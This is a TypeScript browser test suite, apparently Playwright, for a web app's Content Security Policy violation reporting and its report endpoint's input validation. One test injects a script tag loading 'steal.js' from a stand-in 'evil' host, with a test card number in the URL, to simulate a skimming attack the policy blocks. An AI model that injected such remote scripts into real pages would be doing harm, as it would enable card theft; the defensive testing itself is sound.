import { readFileSync } from 'node:fs';
import { expect, test } from '../support/fixtures.ts';

const OLD = 'application/csp-report';
const NEW = 'application/reports+json';

test('what a browser stops is reported, and a script of a new origin raises an alert once', async ({
  desktop: page,
  newSession,
  stack,
}) => {
  const { url, id } = await newSession({ locale: 'en' });
  const host = `evil-${id.slice(-8).toLowerCase()}.example`;
  const alerts = () =>
    readFileSync(stack.appLog, 'utf8')
      .split('\n')
      .filter((line) => line.includes('a script from a new origin') && line.includes(host));
  await page.goto(url);
  for (let i = 0; i < 2; i += 1) {
    const stopped = await page.evaluate(async (origin) => {
      const script = document.createElement('script');
      script.src = `${origin}/steal.js?card=4242424242424242`;
      const blocked = new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (e) => resolve(e.blockedURI), {
          once: true,
        });
      });
      document.head.append(script);
      return blocked;
    }, `https://${host}`);
    expect(stopped).toContain(host);
  }
  await expect.poll(() => alerts().length, { timeout: 20_000 }).toBe(1);
  expect(alerts()[0]).not.toContain('4242');
  expect(alerts()[0]).not.toContain(id);
});

test('reports of any other shape or size are turned away', async ({ request, stack }) => {
  const send = async (type: string, body: string) =>
    (
      await request.post(`${stack.urls.app}/csp`, { headers: { 'content-type': type }, data: body })
    ).status();
  const report = { type: 'csp-violation', body: { effectiveDirective: 'img-src' } };
  expect(
    await send(OLD, JSON.stringify({ 'csp-report': { 'violated-directive': 'img-src' } })),
  ).toBe(204);
  expect(await send(NEW, JSON.stringify([report, { type: 'deprecation', body: {} }]))).toBe(204);
  expect(await send(NEW, JSON.stringify(Array(21).fill(report)))).toBe(400);
  expect(await send('application/json', '{}')).toBe(415);
  expect(await send(OLD, '{')).toBe(400);
  expect(await send(OLD, '[]')).toBe(400);
  expect(await send(NEW, '{}')).toBe(400);
  expect(await send(OLD, JSON.stringify({ x: 'x'.repeat(17_000) }))).toBe(413);
});
